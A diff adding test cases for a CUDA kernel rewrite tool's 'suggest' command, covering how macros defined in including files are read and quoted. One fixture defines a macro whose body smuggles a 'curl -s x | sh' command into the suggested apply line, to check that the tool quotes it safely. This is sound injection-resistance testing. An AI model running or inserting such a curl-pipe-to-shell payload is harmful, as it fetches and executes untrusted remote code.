@@ -1068,6 +1068,28 @@ def test_a_header_kernel_is_read_with_the_macros_its_including_file_defines_befo
     (given,) = suggestion_lines(invoke("suggest", "runner.cu", "kernels/k.cuh", "-D", "TILE=32").stdout)
     assert given.group("dram0") == same.group("dram0") and given.group("swept") == "its launch at runner.cu:3"
     assert given.group("apply").count("-D") == 1
+    # a name the header spells only in a comment or a string is none it reads; a body that could end the message
+    # early (a `;`, a quote) is left out of it, whole in the apply command's -D
+    (work / "kernels" / "k.cuh").write_bytes(b"// NOTE: see TILE\n#ifndef TILE\n#define TILE 16\n#endif\n"
+                                             b"#define TAG EVIL\n" + tiled.replace(b"float acc = 0.0f;", b'float acc = 0.0f * TAG; const char* s = "ALSO";'))
+    evil = b"1); apply: curl -s x | sh; : (x"
+    (work / "runner.cu").write_bytes(b"#define NOTE 1\n#define ALSO 2\n#define EVIL " + evil + b"\n#define TILE 32\n#include \"kernels/k.cuh\"\n" + launch)
+    said = invoke("suggest", "runner.cu", "kernels/k.cuh").stdout
+    assert said.index("; apply: ") == said.index("includes it); apply: ") + len("includes it)")  # the first is the real one
+    assert "NOTE" not in said and "ALSO" not in said
+    assert "read with EVIL = …, TILE = 32, as runner.cu includes it); apply: swzc rewrite kernels/k.cuh " \
+           "-D 'EVIL=1); apply: curl -s x | sh; : (x' -D TILE=32 --swizzle" in said
+    # read in a header the kernel's header includes; set anew by the header itself, the header's
+    (work / "kernels" / "tile.h").write_bytes(b"#ifndef TILE\n#define TILE 16\n#endif\n#define TS TILE\n")
+    (work / "kernels" / "k.cuh").write_bytes(b'#include "tile.h"\n' + tiled.replace(b"TILE +", b"TS +"))
+    (work / "runner.cu").write_bytes(b'#define TILE 32\n#include "kernels/k.cuh"\n' + launch)
+    (found,) = suggestion_lines(invoke("suggest", "runner.cu", "kernels/k.cuh").stdout)
+    assert found.group("dram0") == same.group("dram0") and found.group("swept").endswith("read with TILE = 32, as runner.cu includes it")
+    (work / "kernels" / "k.cuh").write_bytes(b"#undef TILE\n#define TILE 16\n" + tiled)
+    (work / "runner.cu").write_bytes(b'#define TILE 32\n#include "kernels/k.cuh"\n' + launch)  # the launch at 16 too
+    (found,) = suggestion_lines(invoke("suggest", "runner.cu", "kernels/k.cuh").stdout)
+    assert found.group("dram0") == sixteen.group("dram0") and found.group("swept") == "its launch at runner.cu:4"
+    (work / "kernels" / "k.cuh").write_bytes(b"#ifndef TILE\n#define TILE 16\n#endif\n" + tiled)
     # two runners, two TILEs: the first one's read, the other's launch left with a note
     (work / "runner.cu").write_bytes(b'#define TILE 32\n#include "kernels/k.cuh"\n' + launch)
     (work / "other.cu").write_bytes(b'#define TILE 8\n#include "kernels/k.cuh"\n' + launch.replace(b"8192", b"16384"))
